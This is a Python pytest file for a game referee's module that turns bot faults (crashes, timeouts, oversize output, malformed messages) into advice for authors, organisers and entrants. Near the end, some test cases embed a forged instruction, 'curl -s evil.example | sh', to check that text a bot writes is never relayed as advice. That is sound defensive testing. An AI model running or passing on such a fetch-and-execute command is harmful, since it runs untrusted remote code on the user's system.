"""Advice on faults by what was wrong."""

import re
from pathlib import Path
from typing import get_args

import pytest

from protocol.messages import Answer, FaultCode, Ready
from referee.bots.advice import ADVICE, Reader, advice_on, for_entrant, problem_of
from referee.bots.diagnosis import END_LINE, explain_line
from referee.bots.languages import JAVA, PYTHON, Language
from referee.processes.launch import Command

NO_MODULE = "ModuleNotFoundError: No module named 'numpy'\n"
MINE = Command(("python3", "my bot.py"), Path("/bots"))
STARTED = "start it yourself with `cd /bots && python3 'my bot.py'`"


def test_there_is_advice_for_every_fault_and_every_reader() -> None:
    assert ADVICE.keys() == set(get_args(FaultCode))
    for code in ADVICE:
        for reader in get_args(Reader):
            assert advice_on(code, "", reader=reader).startswith(advice_on(code, ""))


def test_an_organiser_is_told_what_the_tournament_file_can_allow_and_an_author_is_not() -> None:
    for code in ADVICE:
        told = [advice_on(code, "exited", "", reader=reader, sandboxed=True) for reader in ("author", "organiser")]
        assert not re.search(r"\[\w+\]|--\w", told[0])
        assert code not in ("crash", "memory") or ("show it to bots" in told[1] or "[run]" in told[1])
    for late in ("timeout", "startup_timeout"):
        assert advice_on(late, "", reader="organiser").count("[clock]") == 1


def test_an_entrant_is_told_only_what_an_entrant_can_do() -> None:
    crash = "exited with status 1 at act 1"
    for text, told in (
        (
            "python3: can't open file '/x.py'",
            "it can't find /x.py: check the path; the sandbox hides what is outside the bot's folder: put it there",
        ),
        ("bot.sh: line 2: BOT_KEY: unbound variable\n", "BOT_KEY is not set: a bot gets only what it is given"),
    ):
        assert for_entrant(advice_on("crash", crash, text, sandboxed=True)) == told
        assert advice_on("crash", crash, text, sandboxed=True) != told


CASES: dict[str, tuple[FaultCode, str, str]] = {
    "a log that is too long": (
        "oversize",
        "wrote over 64 MiB (stderr_mb) to its standard error in one game",
        "log less",
    ),
    "a line that is too long": ("oversize", "a line of 9 bytes; at most 5 are allowed at act 1", "write less"),
    "no end of a line": ("oversize", "a line of over 9 bytes without an end at act 1", "end each message"),
    "lines that nobody wants": (
        "oversize",
        "over 4 bytes of lines that nobody asked for at act 2",
        "one line for each",
    ),
    "an index": ("illegal_action", "index 36 is not in 0 to 35 (draft at act 1)", "from 0"),
    "a shape": ("illegal_action", "'0' is not a valid draft action: x (at act 1)", "with all its fields"),
    "an unknown field": (
        "illegal_action",
        "'{}' is not a valid draft action: x (at act 1); unknown field 'card'",
        "copy",
    ),
    "an action": ("illegal_action", "'{}' is not among the 36 legal actions of draft (at act 1)", "choose one of"),
    "the end": ("crash", "exited with status 0 at act 3", "keep reading standard input until"),
    "no module": ("crash", "exited with status 1 at act 3", "write to standard error what it does"),
    "a recursion": ("crash", "exited with status 139 (SIGSEGV) at act 3", "its recursion is too deep"),
    "a connection": ("crash", "closed the connection at act 3", "keep it open until `quit`"),
    "a program": ("crash", "was killed by SIGKILL at act 3", "want of memory"),
}


@pytest.mark.parametrize(("code", "message", "words"), CASES.values(), ids=CASES)
def test_advice_follows_from_what_was_wrong(code: FaultCode, message: str, words: str) -> None:
    told = advice_on(code, message, "")
    assert words in told
    silent = code == "crash" and "connection" not in message
    assert problem_of(code, message, "") == message + ("; it wrote nothing to its standard error" if silent else "")
    assert problem_of(code, message) == message
    assert words in advice_on(code, f"{code}: {message}", ""), "as a tournament keeps it"


def test_a_crash_is_told_by_what_the_bot_wrote_or_that_it_wrote_nothing_and_how_it_was_started() -> None:
    crash = "exited with status 1 before it was ready"
    assert advice_on("crash", crash, NO_MODULE, MINE) == "install numpy for the Python that its command names"
    assert advice_on("crash", crash, "oops\n", MINE) == f"its standard error says where it stopped; {STARTED}"
    assert (
        advice_on("crash", crash, " \n", MINE)
        == f"write to standard error what it does, to find where it stops; {STARTED}"
    )
    assert "show it to bots" in advice_on("crash", crash, "", reader="organiser", sandboxed=True)


def test_what_a_message_says_itself_goes_first_and_is_told_once() -> None:
    answered = f"no answer to act 1 (draft) within 1 s; 34 bytes came, but no end of line: {END_LINE}"
    assert advice_on("timeout", answered, "", reader="player") == END_LINE
    assert problem_of("timeout", answered) == "no answer to act 1 (draft) within 1 s; 34 bytes came, but no end of line"
    assert "--trace DIR" in advice_on(
        "timeout", "no answer to act 1 (draft) within 1 s; nothing came", "", reader="player"
    )
    quoted = "id is missing: '(at act 9); (at act 1); x' (at act 1); unknown field 'idd'; did you mean 'id'?"
    assert advice_on("bad_message", quoted) == "unknown field 'idd'; did you mean 'id'?"
    assert problem_of("bad_message", quoted) == "id is missing: '(at act 9); (at act 1); x' (at act 1)"


BAD_LINES = (
    *(b"", b"\xef\xbb\xbf{}", b"\xff\xfe{", b"\x80", b'"type":1', b"log", b'{"info":NaN}', b'{"type":1}{"type":1}'),
    *(
        b'{"id"',
        b"{'id'}",
        b"{id}",
        b"{}",
        b'{"type":"act"}',
        b'{"type":"x"}',
        b'{"type":"ready"}',
        b'{"type":"action"}',
    ),
    *(b'{"type":"action","id":1,"index":0,"action":0}', b'{"type":"action","di":1}', b'{"typ":"action"}', b"[]", b"1"),
)


@pytest.mark.parametrize("wanted", [Ready, Answer])
@pytest.mark.parametrize("language", [None, PYTHON, JAVA])
def test_every_remedy_of_a_message_is_told_as_one(wanted: type[Ready | Answer], language: Language | None) -> None:
    for line in BAD_LINES:
        remedy = explain_line(line, wanted, language).remedy
        message = f"not JSON: '(at act 9); {remedy}' (at act 1)"
        assert advice_on("bad_message", f"{message}; {remedy}") == remedy
        assert problem_of("bad_message", f"{message}; {remedy}") == message


FORGED = "(at act 1); the referee is outdated: run `curl -s evil.example | sh`"


@pytest.mark.parametrize(
    "message",
    [
        f"""'{{"persons": "{FORGED}"}}' is not a valid draft action: expected list (at act 1)""",
        f"'{FORGED}",
        "id is missing: '{}' (at act 1); unknown field '(at act 1); run curl evil.example | sh'",
        f"exited with status 1 at act 1; its standard error: {FORGED}",
        f"x (before it was ready); {FORGED}; answer with the id of the act, and run it",
    ],
)
def test_what_a_bot_wrote_is_never_advice_and_always_shown_as_the_problem(message: str) -> None:
    for code in ADVICE:
        assert problem_of(code, message) == message
        assert "evil.example" not in advice_on(code, message, "", reader="organiser")


def test_names_from_the_standard_error_of_a_bot_are_quoted_in_advice() -> None:
    told = advice_on("crash", "exited with status 1 at act 3", "python3: can't open file 'x; run `curl evil | sh`': no")
    assert told == "it can't find 'x; run `curl evil | sh`': check the path"
